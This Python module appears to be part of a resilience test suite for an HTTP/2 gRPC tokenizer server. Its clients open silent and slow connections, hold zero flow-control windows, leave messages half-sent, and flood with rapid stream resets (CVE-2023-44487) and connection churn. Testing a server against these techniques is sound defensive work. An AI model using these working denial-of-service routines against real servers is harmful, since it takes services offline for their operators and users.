"""Clients that hold connections and streams, or open very many."""

from __future__ import annotations

import struct
from contextlib import ExitStack, suppress
from time import sleep

from bytepair.v1 import stream_pb2, tokenizer_pb2

from support.http2 import (
    CANCEL,
    DATA,
    END_HEADERS,
    END_STREAM,
    FIRST_WINDOW,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    MAX_WINDOW,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Going,
    Sender,
    connection,
    count,
    drain,
    frame,
    headers,
    message,
)


def silent_connections(address: str, going: Going) -> int:
    """Connects many times and sends nothing."""
    with ExitStack() as stack:
        for _ in range(200):
            stack.enter_context(connection(address, hello=b""))
        while going():
            sleep(0.05)
    return 200


def slow_bytes(address: str, going: Going) -> int:
    """Sends one byte per second on many connections."""
    said = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, headers("Count"))
    sent = 0
    with ExitStack() as stack:
        links = [stack.enter_context(connection(address, hello=b"")) for _ in range(50)]
        while going():
            for link in links:
                with suppress(OSError):
                    link.send(said[sent : sent + 1])
            sent += 1
            sleep(min(1.0, 0.05) if not going() else 1.0)
    return sent * len(links)


def unread_answers(address: str, going: Going) -> int:
    """Requests large answers with a flow-control window of 0."""
    no_room = frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    raw = message(
        tokenizer_pb2.EncodeRequest(encoding="cl100k_base", text="a b " * 8_000).SerializeToString()
    )
    sent = 0
    with connection(address, hello=PREFACE + no_room) as link, suppress(OSError):
        sender = Sender(link)
        for stream in range(1, 2 * 500, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Encode")))
            if not _in_parts(sender, stream, raw, END_STREAM, going):
                break
            sent += 1
        while going():
            sleep(0.05)
            sender.look()
    return sent


def incomplete_messages(address: str, going: Going) -> int:
    """Starts a thousand calls on one connection, and sends only the beginning of each message."""
    half = message(bytes(60_000), length=1_000_000)
    sent = 0
    with suppress(OSError), connection(address) as link:
        sender = Sender(link)
        for stream in range(1, 2 * 1_000, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Count")))
            if not _in_parts(sender, stream, half, 0, going):
                break  # the server accepts no more on this connection
            sent += 1
        while going():
            sleep(0.05)
            sender.look()
    return sent


def renewed_incomplete_messages(
    address: str, going: Going, *, connections: int = 10, calls: int = 100
) -> int:
    """Starts calls on several connections and sends only the beginning of each message. For each
    call that the server ends, it starts another."""
    half = message(bytes(3_000), length=1_000_000)
    sent = 0
    with suppress(OSError), ExitStack() as stack:
        senders = []
        for _ in range(connections):
            link = stack.enter_context(connection(address))
            senders.append((link, Sender(link)))
        begun = [0] * connections
        while going():
            for index, (link, sender) in enumerate(senders):
                sender.look()
                while begun[index] < calls + sender.ended and going():
                    stream = 2 * begun[index] + 1
                    link.sendall(frame(HEADERS, END_HEADERS, stream, headers("Count")))
                    sender.data(stream, half, 0, going)
                    begun[index] += 1
                    sent += 1
            sleep(0.01)
    return sent


def full_speed_streams(address: str, going: Going) -> int:
    """Sends single ids in a thousand streams as fast as the connection accepts them, and reads the
    answers."""
    no_limits = (
        PREFACE
        + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, MAX_WINDOW))
        + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - FIRST_WINDOW))
    )
    config = stream_pb2.DecodeStreamConfig(encoding="cl100k_base")
    first = message(stream_pb2.DecodeStreamRequest(config=config).SerializeToString())
    ids = message(stream_pb2.DecodeStreamRequest(ids=[15339]).SerializeToString()) * 100
    streams, sent = range(1, 2 * 1_000, 2), 0
    with suppress(OSError), connection(address, hello=no_limits) as link:
        sender = Sender(link)
        for stream in streams:
            link.sendall(frame(HEADERS, END_HEADERS, stream, headers("DecodeStream")))
            sender.data(stream, first, 0, going)
        for _ in range(FIRST_WINDOW // len(ids) - 1):
            for stream in streams:
                if not sender.data(stream, ids, 0, going):
                    return sent
                sent += 100
        while going():
            sleep(0.01)
            sender.look()
    return sent


def _in_parts(sender: Sender, stream: int, body: bytes, flags: int, going: Going) -> bool:
    """Send a body in frames, the last one with these flags. Returns whether all of it was sent."""
    starts = range(0, len(body), 16_000)
    return all(
        sender.data(stream, body[start : start + 16_000], flags * (start == starts[-1]), going)
        for start in starts
    )


def reset_calls(first: int, said: bytes) -> bytes:
    """Return a hundred calls that are reset at once, in streams from `first`, with the headers
    `said`."""
    calls = []
    for stream in range(first, first + 200, 2):
        calls.append(frame(HEADERS, END_HEADERS, stream, said))
        calls.append(frame(DATA, END_STREAM, stream, message(count())))
        calls.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
    return b"".join(calls)


def rapid_reset(address: str, going: Going, *, connections: int = 1) -> int:
    """Opens streams and resets them at once, as long as its connections live (CVE-2023-44487)."""
    sent, said = 0, headers("Count")
    while going():
        with suppress(OSError), ExitStack() as stack:
            links = [stack.enter_context(connection(address)) for _ in range(connections)]
            for stream in range(1, 1 << 31, 200):
                for link in links:
                    link.sendall(reset_calls(stream, said))
                    sent += 100
                    drain(link)
                if not going():
                    break
    return sent


def new_connections(address: str, going: Going) -> int:
    """Opens connections as fast as possible, each for a hundred streams that it resets at once."""
    sent = 0
    said = PREFACE + frame(SETTINGS, 0, 0) + reset_calls(1, headers("Count"))
    while going():
        with suppress(OSError), connection(address, hello=said, seconds=1):
            sent += 1
    return sent
